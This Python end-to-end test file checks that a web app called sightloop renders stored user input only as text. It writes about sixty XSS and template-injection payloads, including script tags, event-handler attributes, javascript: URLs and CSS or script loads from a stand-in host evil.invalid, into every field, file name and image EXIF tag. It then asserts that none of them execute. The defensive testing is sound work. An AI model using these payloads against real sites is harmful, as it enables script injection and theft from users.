"""What people may store is shown as text: sixty payloads in every field that takes words, and no screen runs one."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Any
from urllib.parse import urlsplit

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import expect

import sightloop
from sightloop.errors import SightloopError
from sightloop.interfaces.sdk import connect
from tests.journeys.browser_pages import SCREENS, UNANSWERED, SeatOf
from tests.journeys.served import Served
from tests.journeys.small_loop import SmallLoop

pytestmark = [pytest.mark.journey, pytest.mark.timeout(400)]

_DO = "window.__pwned=1"
_CODE = [
    f"<script>{_DO}</script>", f"<SCRIPT>{_DO}</SCRIPT >", f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    "<script src=https://evil.invalid/x.js></script>", "<script src='data:text/javascript,window.__pwned=1'></script>",
    f"</script><script>{_DO}</script>", f"</title><script>{_DO}</script>", f"</textarea><script>{_DO}</script>",
    f"--><script>{_DO}</script><!--", f"]]><script>{_DO}</script>", f"'><script>{_DO}</script>",
    f'"><script>{_DO}</script>', f"`><script>{_DO}</script>", f"<script type=module>{_DO}</script>",
    f"<img src=x onerror={_DO}>", f"<img src=x onerror='{_DO}'//>", f'" onerror="{_DO}" src="x',
    f"<IMG SRC=x ONERROR={_DO}>",
    f"<img/src=x/onerror={_DO}>", f"<img src='https://evil.invalid/x.png' onload={_DO}>",
    f"<image src=x onerror={_DO}>",
    f"<video><source onerror={_DO}></video>", f"<audio src=x onerror={_DO}>", f"<body onload={_DO}>",
    f"<svg onload={_DO}>", f"<svg><script>{_DO}</script></svg>", f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_DO}'><text y=9>x</text></a></svg>", f"<math href='javascript:{_DO}'>x</math>",
    f"<details open ontoggle={_DO}>", f"<input autofocus onfocus={_DO}>", f"<select autofocus onfocus={_DO}>",
    f"<marquee onstart={_DO}>", f"<div onmouseover={_DO} style='position:fixed;inset:0'>x</div>",
    f"<iframe srcdoc='<script>parent.{_DO[7:]}</script>'>",
    f"<iframe src='javascript:parent.{_DO[7:]}'>", f"<object data='javascript:{_DO}'>",
    f"<embed src='javascript:{_DO}'>",
    "<base href='https://evil.invalid/'>", f"<meta http-equiv=refresh content='0;url=javascript:{_DO}'>",
    f"<form action='javascript:{_DO}'><button>x</button></form>", f"<a href='javascript:{_DO}'>x</a>",
    "<link rel=stylesheet href='https://evil.invalid/x.css'>", f"<template><script>{_DO}</script></template>",
    f"javascript:{_DO}", f"jAvAsCrIpT:{_DO}", f"javascript://%0a{_DO}", f"data:text/html,<script>{_DO}</script>",
    f"[x](javascript:{_DO})", f"![x](x' onerror='{_DO})", f"`{_DO}` **<b onclick={_DO}>x</b>** | a | b |",
]  # fmt: skip
_WORDS = [
    f"{{{{constructor.constructor('{_DO}')()}}}}", f"${{{_DO}}}", f"#{{{_DO}}}", f"<%= {_DO} %>",
    "</style><style>*{background:url(https://evil.invalid/c)}", "x;background:url(https://evil.invalid/c)",
    "\u202e>tpircs/<1=denwp__.wodniw>tpircs<\u202c", "\u200b<\u200bscript>\u200d\ufeff", "__proto__",
]  # fmt: skip
PAYLOADS = [*_CODE, *_WORDS]
_WATCH = """
window.__barred = []
addEventListener('securitypolicyviolation', (one) => window.__barred.push(`${one.effectiveDirective} ${one.sample}`))
"""
_SHOWN = {"Datasets", "Review", "a sample", "labels", "versions", "members", "schemas", "reasons"}
_INJECTED = (
    "[onerror],[onload],[onclick],[onfocus],[ontoggle],[onbegin],[onstart],[onmouseover],iframe,object,"
    "embed,marquee,math,"
    "[href^='javascript:' i],[src^='javascript:' i],[href*='evil.invalid'],[src*='evil.invalid']"
)


@pytest.fixture(scope="module")
def poisoned(closed: SmallLoop, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, dict[str, str]]]:
    """A served copy of the loop with the payloads in it, and the addresses where they are shown."""
    folder = tmp_path_factory.mktemp("poisoned") / "installation"
    shutil.copytree(closed.folder, folder)
    with Served(folder) as running:
        with connect(folder) as ws:
            key = ws.keys.create("engineer").secret
            with connect(running.address, key=key) as colleague:
                places = Poison(ws, colleague).everywhere()
        yield running, places


# Held to a pattern, which refuses the payloads.
_NAMES = {"dataset", "schema", "rule", "policy", "workspace"}


class Poison:
    """Writes the payloads through the public client: as the owner, and as a colleague who sends work back."""

    def __init__(self, ws: sightloop.Workspace, colleague: sightloop.Workspace) -> None:
        self._ws = ws
        self._colleague = colleague

    def everywhere(self) -> dict[str, str]:
        """The addresses of what now holds payloads, by what it is."""
        ws = self._ws
        samples = self._samples()
        ws.schemas.create("hostile", PAYLOADS)
        ws.labels.import_("hostile", dict(zip(samples[8:], PAYLOADS, strict=False)))
        ws.datasets.create("hostile", schema="hostile")
        ws.datasets.commit("hostile", add=dict.fromkeys(samples, "train"), note=PAYLOADS[-1])
        self._each("key", lambda text, _: ws.keys.create("viewer", name=text))
        self._each("dataset", lambda text, _: ws.datasets.create(text, schema="hostile"))
        self._each("schema", lambda text, _: ws.schemas.create(text, ["a", "b"]))
        self._each("rule", lambda text, _: ws.rules.create(text, deployment="line-1", label="defect", consecutive=3))
        self._each("policy", lambda text, _: ws.policies.apply(_POLICY.format(name=_quoted(text))))
        self._each(
            "version's note", lambda text, at: ws.datasets.commit("hostile", drop=[samples[at]], note=text), first=59
        )
        campaigns = self._each(
            "campaign", lambda text, _: ws.campaigns.start(name=text, schema="hostile", samples=samples[:8])
        )
        queues = self._each(
            "review queue", lambda text, _: ws.reviews.create(text, schema="hostile", samples=samples[8:])
        )
        self._each(
            "reason for sending back", lambda text, _: self._send_back(queues[0].id, text), first=len(samples) - 8
        )
        versions = [one.id for one in ws.models.versions("cells")]
        self._each(
            "reason of a promotion", lambda text, at: ws.models.promote("cells", versions[(at + 1) % 2], reason=text)
        )
        self._each("workspace", lambda text, _: ws.workspaces.create(text), first=3)
        return {
            "a sample": f"/s/{samples[-1]}",
            "its queue": f"/review/{queues[0].id}",
            "a campaign": f"/review/{campaigns[0].id}",
            "versions": "/datasets/hostile?view=versions",
            "labels": "/datasets/hostile?v=1",
            "members": "/?settings=members",
            "schemas": "/?settings=schemas",
            "workspaces": "/?settings=workspaces",
            "reasons": "/models/cells?tab=gates&v=2",
            "lineage": "/models/cells?tab=lineage",
            "card": "/models/cells",
        }

    def _each(self, field: str, write: Callable[[str, int], Any], first: int | None = None) -> list[Any]:
        """What was written. Free text takes every payload; a name may refuse any."""
        kept: list[Any] = []
        for at, text in enumerate(PAYLOADS[:first]):
            try:
                kept.append(write(text, at))
            except SightloopError as refusal:
                if field not in _NAMES:
                    raise AssertionError(f"{field} refused {text}") from refusal
        return kept

    def _samples(self) -> list[str]:
        """The ids of one new sample for each payload, which is its name, in its metadata and in its EXIF."""
        files, metadata = [], {}
        for at, text in enumerate(PAYLOADS):
            name = f"{text.replace('/', '∕')}.png"
            staged = self._ws._connection.post_bytes("/uploads", _picture(at, text), name=name)
            files.append({"name": name, "digest": staged.digest})
            metadata[name] = {"remark": text}
        source = {"kind": "upload", "files": files}
        run = self._ws._connection.post("/ingests", {"source": source, "metadata": metadata})
        assert self._ws.runs.wait(run.id).output.ingested == len(PAYLOADS)
        return [one.id for one in self._ws.samples.list() if "remark" in one.metadata]

    def _send_back(self, queue: str, reason: str) -> Any:
        item = self._colleague.reviews.next(queue).item
        return self._colleague.reviews.answer(item.id, "send_back", reason=reason)


def test_nothing_that_is_stored_runs(seat: SeatOf, poisoned: tuple[Served, dict[str, str]]) -> None:
    running, places = poisoned
    one = seat("admin", at=running)
    one.forgiven.append(UNANSWERED)
    one.context.add_init_script(_WATCH)
    strangers: list[str] = []
    one.page.on("request", lambda request: strangers.append(request.url) if "evil.invalid" in request.url else None)
    for name, path in {**SCREENS, **places}.items():
        page = one.visit(path)
        one.settled()
        if name in _SHOWN:
            expect(page.locator("body")).to_contain_text("__pwned")
        assert page.evaluate("window.__pwned") is None, name
        assert page.evaluate("window.__barred") == [], name
        assert page.locator(_INJECTED).count() == 0, name
        assert urlsplit(page.url).path.startswith("/w/default"), name
    assert strangers == []


def _picture(seed: int, text: str) -> bytes:
    noise = np.random.default_rng(seed).integers(0, 255, (64, 64, 3), dtype=np.uint8)
    written = BytesIO()
    exif = Image.Exif()
    exif[0x010E] = text.encode("ascii", "replace").decode()
    Image.fromarray(noise).save(written, "PNG", exif=exif)
    return written.getvalue()


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


_POLICY = """
name: {name}
watch: {{deployment: line-1, monitor: line-1}}
on: drift
collect: {{count: 50, reference: 60}}
label: {{schema: cells, reviewer_budget: 50}}
train: {{model: cells, dataset: cells, test: cells-test@latest, recipe: {{trainer: frozen_head, seed: 0}}}}
gate: {{margin: 0.2, alpha: 0.05, slices: [cell_type]}}
promote: {{alias: champion, deployment: line-1}}
"""
